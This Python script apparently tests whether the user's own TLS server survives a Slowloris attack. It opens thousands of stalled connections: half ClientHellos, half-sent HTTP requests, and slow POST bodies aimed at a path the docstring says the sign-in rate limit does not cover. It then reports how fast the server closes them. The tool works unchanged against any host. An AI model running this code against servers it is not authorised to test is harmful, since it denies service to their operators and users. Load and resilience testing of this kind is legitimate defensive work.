#!/usr/bin/env python3
"""Slowloris against a TLS port: open many connections that never finish their request, hold them,
and report what the server does with them. Standard library only (asyncio + ssl).

Two kinds of stalled connection, the two a TLS front must survive:

  raw  TCP connected, then HALF a real TLS ClientHello: the handshake can never complete, so the
       server holds a socket and a TLS state machine waiting for the rest.
  tls  TLS handshake completed (HTTP/1.1 by ALPN), then HALF a request line and header
       ("GET /healthz HTTP/1.1\\r\\nHost: …\\r\\nUser-Agent: sta"): the server holds a socket, a TLS
       session and a header buffer waiting for the blank line that never comes.

and, with --body, a third (slow POST):

  body TLS, a whole request header for POST --body-path (default /logout, outside nginx's sign-in
       rate limit) announcing a 1000-byte body, then 6 bytes of it: a request in progress, which
       the server's per-address connection limit counts. Any status line the server sends back
       (e.g. 429) is counted per status.

While holding them it rewrites --status (JSON: phase, opened, open, closed_by_server, failed) a few
times a second, so a script can check other things while the connections are held. At the end it
prints how many the server closed and after how long, writes --result (JSON) and exits 0 only if
every opened connection was closed by the server within --watch seconds.
"""

import argparse
import asyncio
import json
import os
import ssl
import statistics
import sys
import time


KINDS = ("raw", "tls", "body")


class Conn:
    __slots__ = ("kind", "started", "closed", "how", "status")

    def __init__(self, kind):
        self.kind = kind
        self.started = time.monotonic()  # before TCP connect: the server's timer starts at accept
        self.closed = None
        self.how = None
        self.status = None


def client_context():
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE  # the test certificate is self-signed
    ctx.set_alpn_protocols(["http/1.1"])
    return ctx


def half_client_hello(sni):
    """The first half of a genuine ClientHello, produced by OpenSSL without any network."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = client_context().wrap_bio(incoming, outgoing, server_hostname=sni)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()
    return hello[: len(hello) // 2]


async def hold(conn, reader, writer):
    """Wait until the server ends the connection (EOF, RST or a TLS alert)."""
    try:
        while True:
            data = await reader.read(4096)
            if not data:
                conn.how = "closed"
                break
            # The server answered something (e.g. 429) — note the status, read on until it closes.
            if conn.status is None and data.startswith(b"HTTP/"):
                parts = data.split(None, 2)
                conn.status = int(parts[1]) if len(parts) > 1 and parts[1].isdigit() else 0
    except (ConnectionError, ssl.SSLError, OSError):
        conn.how = "reset"
    except asyncio.CancelledError:
        conn.how = None
        raise
    finally:
        if conn.how is not None:
            conn.closed = time.monotonic()
        writer.transport.abort()


async def open_one(args, kind, conns, tasks, failures, hello, ctx, gate):
    async with gate:
        conn = Conn(kind)
        try:
            if kind == "raw":
                reader, writer = await asyncio.wait_for(
                    asyncio.open_connection(args.host, args.port), args.connect_timeout
                )
                writer.write(hello)
            else:  # tls, body
                reader, writer = await asyncio.wait_for(
                    asyncio.open_connection(
                        args.host,
                        args.port,
                        ssl=ctx,
                        server_hostname=args.sni,
                        ssl_handshake_timeout=args.connect_timeout,
                    ),
                    args.connect_timeout,
                )
                if kind == "tls":
                    writer.write(
                        b"GET /healthz HTTP/1.1\r\nHost: "
                        + args.sni.encode()
                        + b"\r\nUser-Agent: sta"
                    )
                else:
                    writer.write(
                        b"POST " + args.body_path.encode() + b" HTTP/1.1\r\nHost: "
                        + args.sni.encode()
                        + b"\r\nContent-Type: application/x-www-form-urlencoded"
                        + b"\r\nContent-Length: 1000\r\n\r\nemail="
                    )
            await writer.drain()
        except (OSError, ssl.SSLError, asyncio.TimeoutError) as error:
            failures.append(f"{kind}: {type(error).__name__}: {error}")
            return
    conns.append(conn)
    tasks.append(asyncio.create_task(hold(conn, reader, writer)))


def write_json(path, data):
    if not path:
        return
    tmp = path + ".tmp"
    with open(tmp, "w") as f:
        json.dump(data, f)
    os.replace(tmp, path)


def snapshot(phase, conns, failures, t0, opened_in=None):
    open_now = sum(1 for c in conns if c.closed is None)
    return {
        "opened_in": opened_in,
        "phase": phase,
        "opened": len(conns),
        "open": open_now,
        "closed_by_server": len(conns) - open_now,
        "failed": len(failures),
        "elapsed": round(time.monotonic() - t0, 2),
    }


async def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--sni", default="localhost", help="TLS server name (and Host header)")
    parser.add_argument("--raw", type=int, default=4000, help="connections with half a ClientHello")
    parser.add_argument("--tls", type=int, default=1000, help="TLS connections with half a request")
    parser.add_argument("--body", type=int, default=0,
                        help="TLS connections with a whole POST header and a stalled body")
    parser.add_argument("--body-path", default="/logout", help="where the slow bodies are posted")
    parser.add_argument("--parallel", type=int, default=200, help="connects in flight at once")
    parser.add_argument("--connect-timeout", type=float, default=10.0)
    parser.add_argument("--watch", type=float, default=30.0,
                        help="seconds after the last connect to wait for the server to close them")
    parser.add_argument("--status", help="JSON file rewritten while running")
    parser.add_argument("--result", help="JSON file written at the end")
    args = parser.parse_args()

    t0 = time.monotonic()
    conns, tasks, failures = [], [], []
    ctx = client_context()
    hello = half_client_hello(args.sni)
    gate = asyncio.Semaphore(args.parallel)

    async def status_loop(phase_ref):
        while True:
            write_json(args.status, snapshot(phase_ref[0], conns, failures, t0, phase_ref[1]))
            await asyncio.sleep(0.2)

    phase = ["opening", None]
    reporter = asyncio.create_task(status_loop(phase))

    # TLS ones first (each costs a handshake), then the cheap raw ones.
    await asyncio.gather(*(open_one(args, "tls", conns, tasks, failures, hello, ctx, gate)
                           for _ in range(args.tls)))
    await asyncio.gather(*(open_one(args, "raw", conns, tasks, failures, hello, ctx, gate)
                           for _ in range(args.raw)))
    # Slow bodies one after the other, so "the first N are held, the rest refused" is well defined.
    for _ in range(args.body):
        await open_one(args, "body", conns, tasks, failures, hello, ctx, gate)
        await asyncio.sleep(0.02)
    opened_in = round(time.monotonic() - t0, 2)
    held = snapshot("held", conns, failures, t0, opened_in)
    phase[0], phase[1] = "held", opened_in
    write_json(args.status, held)
    by_kind = {k: sum(1 for c in conns if c.kind == k) for k in KINDS}
    print(f"stall: opened {len(conns)} connections (raw half-ClientHello {by_kind['raw']}, "
          f"TLS half-request {by_kind['tls']}, slow body {by_kind['body']}) in {opened_in:.1f} s; "
          f"{held['open']} open now, {len(failures)} failed to connect", flush=True)
    for line in failures[:5]:
        print(f"stall:   connect failure: {line}", flush=True)

    # Wait for the server to close them all, or give up after --watch seconds.
    deadline = time.monotonic() + args.watch
    while time.monotonic() < deadline and any(c.closed is None for c in conns):
        await asyncio.sleep(0.2)

    phase[0] = "done"
    reporter.cancel()
    final = snapshot("done", conns, failures, t0, opened_in)
    result = {**final, "open_when_held": held["open"],
              "kinds": {}}
    for kind in KINDS:
        mine = [c for c in conns if c.kind == kind]
        if not mine:
            continue
        lifetimes = sorted(c.closed - c.started for c in mine if c.closed is not None)
        entry = {"opened": len(mine), "closed_by_server": len(lifetimes),
                 "still_open": len(mine) - len(lifetimes)}
        statuses = {}
        for c in mine:
            key = str(c.status) if c.status is not None else "none"
            statuses[key] = statuses.get(key, 0) + 1
        entry["statuses"] = statuses
        # Lifetimes of the connections the server never answered (held until a timeout).
        silent = sorted(c.closed - c.started for c in mine if c.closed is not None and c.status is None)
        if silent:
            entry.update(silent_min_s=round(silent[0], 1), silent_max_s=round(silent[-1], 1))
        if lifetimes:
            entry.update(min_s=round(lifetimes[0], 1),
                         median_s=round(statistics.median(lifetimes), 1),
                         max_s=round(lifetimes[-1], 1))
        result["kinds"][kind] = entry
        span = (f", held {entry['min_s']}–{entry['max_s']} s (median {entry['median_s']} s) "
                f"before the server closed them") if lifetimes else ""
        answered = ", ".join(f"{n}× HTTP {s}" for s, n in sorted(statuses.items()) if s != "none")
        print(f"stall: {kind}: {entry['closed_by_server']}/{entry['opened']} closed by the server"
              f"{span}; {entry['still_open']} still open after {args.watch:.0f} s"
              f"{'; answered: ' + answered if answered else ''}", flush=True)
    write_json(args.status, final)
    write_json(args.result, result)

    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    ok = conns and final["open"] == 0 and not failures
    return 0 if ok else 1


if __name__ == "__main__":
    try:
        sys.exit(asyncio.run(main()))
    except KeyboardInterrupt:
        sys.exit(130)
